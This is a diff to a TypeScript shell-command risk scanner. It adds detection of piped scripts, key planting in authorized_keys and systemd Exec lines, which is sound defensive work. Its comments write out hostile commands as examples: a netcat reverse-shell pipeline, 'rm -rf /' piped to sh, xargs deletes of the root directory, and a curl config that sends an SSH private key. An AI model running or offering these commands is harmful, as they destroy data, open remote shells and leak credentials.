@@ -23,9 +23,13 @@ import {
   downloadedFiles,
   webClientDownloads,
   inDirectory,
+  hasShort,
   inlineCode,
   nestedSource,
+  positional,
+  literalOutput,
   readsProgramFromStdin,
+  runsStandardInput,
   runsFile,
   short,
   stdinText,
@@ -39,7 +43,16 @@ import {
   writeTargets,
   xargsCommand,
 } from "./risk-view.ts";
-import { bareExecView, laterRunText, reverseShellPipeline, SOCKET_FDS, socketDescriptors } from "./risk-remote-access.ts";
+import {
+  AUTHORIZED_KEYS,
+  bareExecView,
+  bareRedirectView,
+  keyAdded,
+  laterRunText,
+  reverseShellPipeline,
+  SOCKET_FDS,
+  socketDescriptors,
+} from "./risk-remote-access.ts";
 import {
   bareEnvView,
   addedRemote,
@@ -264,7 +277,9 @@ function pipedDelete(v: View, before: View | null): string | null {
       const start = before.a.find((x) => !x.startsWith("-") && !x.startsWith("(")) ?? ".";
       return /^[^\s;&|<>`$()]{1,200}$/.test(start) ? `find ${start} -delete` : null;
     }
-    const named = before.name === "echo" || before.name === "printf" ? before.a.filter((x) => !x.startsWith("-")).join(" ") : "";
+    // (`ls -d /*` prints the paths it is given, as echo does: round 12)
+    const lists = before.name === "ls" && hasShort(before, "d") && positional(before).length === 1;
+    const named = before.name === "echo" || before.name === "printf" || lists ? before.a.filter((x) => !x.startsWith("-")).join(" ") : "";
     return /^[^\s;&|<>`$()]{1,200}$/.test(named) ? xargsCommand(v.a, named) : null;
   }
   if ((v.name === "remove-item" || v.name === "ri" || v.name === "rm" || v.name === "del") && LISTERS.has(before.name)) {
@@ -376,7 +391,7 @@ function analyzeText(src: string, carried?: Carried, changesCarried = false): Fo
             : built !== null && calls++ < MAX_CALLS
               ? aliasedCommand(built, c)
               : c;
-        return viewOf(aliased, vars) ?? bareEnvView(aliased) ?? bareExecView(aliased);
+        return viewOf(aliased, vars) ?? bareEnvView(aliased) ?? bareExecView(aliased) ?? bareRedirectView(aliased);
       });
       // cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f, /bin/sh 0</tmp/p | nc h p 1>/tmp/p, nc h p | sh
       const handed = views.length > 1 ? reverseShellPipeline(views) : null;
@@ -422,6 +437,8 @@ function analyzeText(src: string, carried?: Carried, changesCarried = false): Fo
         if (v.name === "eval" && nested !== null) nested = expandVariables(nested, vars);
         // `echo / | xargs rm -rf`, `find / -type f | xargs rm`, `Get-ChildItem C:\ -Recurse | Remove-Item`: the delete of what the pipe names
         if (nested === null && i > 0) nested = pipedDelete(v, views[i - 1] ?? null);
+        // `echo 'rm -rf /' | sh`, `printf '…' | at now`: what the stage before prints is the script this one runs (round 12)
+        if (nested === null && i > 0 && views[i - 1] && runsStandardInput(v)) nested = literalOutput(views[i - 1]!);
         const def = defs.get(v.name);
         if (def?.kind === "function" && calls++ < MAX_CALLS) visit(parseShell(expandCall(def, v)), depth + 1, vars, substituted, here());
         // curl -K cfg: the options the trail wrote into cfg (`url = …`, `data = "@~/.ssh/id_rsa"`) are curl's
@@ -748,6 +765,8 @@ const URL_OR_SCP = /^[a-z][a-z0-9+.-]*:\/\/|^[\w.-]+@[\w.-]+:/i;
 
 // --- Patches ---------------------------------------------------------------------------------------------
 
+/** systemd units, whose `Exec…=` lines are commands systemd runs (round 12). */
+const SYSTEMD_UNIT = /\.(service|socket|mount|path)$/i;
 const SHELL_FILE =
   /(^|\/)(Dockerfile[^/]*|Containerfile|Makefile|GNUmakefile|[^/]*\.mk|Justfile|Procfile|Vagrantfile|[^/]*\.(sh|bash|zsh|ksh|fish|ps1|psm1|bat|cmd|command))$/i;
 const CI_FILE =
@@ -848,6 +867,15 @@ function patchFlags(filePath: string, diff: string): Found[] {
         detail: `adds code that reads local secrets on one line (${short(across.read, 70)}) and sends them over the network on another (${short(across.send, 70)}) ${where}`,
       });
   }
+  // a patch to authorized_keys adding a key plants it, as `echo 'ssh-ed25519 …' >> ~/.ssh/authorized_keys` does (round 12)
+  if (AUTHORIZED_KEYS.test(filePath.replace(/\\/g, "/")))
+    for (const line of addedLines(diff).slice(0, 1000)) {
+      const planted = keyAdded(line, "the patch writes");
+      if (planted) {
+        f.push({ flag: "remote_script_execution", level: "high", detail: `${planted} ${where}` });
+        break;
+      }
+    }
   // a docker-compose file or Kubernetes manifest mounting ~/.ssh, ~/.aws, / or the Docker socket into a stranger's image
   if (/\.ya?ml$/i.test(filePath)) {
     const kept = keptLines(diff);
@@ -862,7 +890,9 @@ function patchFlags(filePath: string, diff: string): Found[] {
       detail: `${x.detail} ${where}`,
     })),
   );
+  const unit = SYSTEMD_UNIT.test(filePath);
   const shellLike =
+    unit ||
     SHELL_FILE.test(filePath) ||
     CI_FILE.test(filePath) ||
     /(^|\/)package\.json$/.test(filePath) ||
@@ -886,6 +916,11 @@ function patchFlags(filePath: string, diff: string): Found[] {
         }
         if (!inFence && !/^\s*\$ /.test(line)) continue;
         line = line.replace(/^\s*\$ /, "");
+      } else if (unit) {
+        // a systemd unit's commands: `ExecStart=-/bin/sh -c '…'` (the prefixes `-@:+!` change how it runs, not what)
+        const m = /^\s*Exec(?:Start|StartPre|StartPost|Stop|StopPost|Reload|Condition)\s*=\s*[-@:+!]*(.*)$/.exec(line);
+        if (!m) continue;
+        line = m[1]!;
       } else if (/package\.json$/.test(filePath)) {
         const m = /^\s*"[^"]+"\s*:\s*"(.*)",?\s*$/.exec(line);
         if (!m) continue;
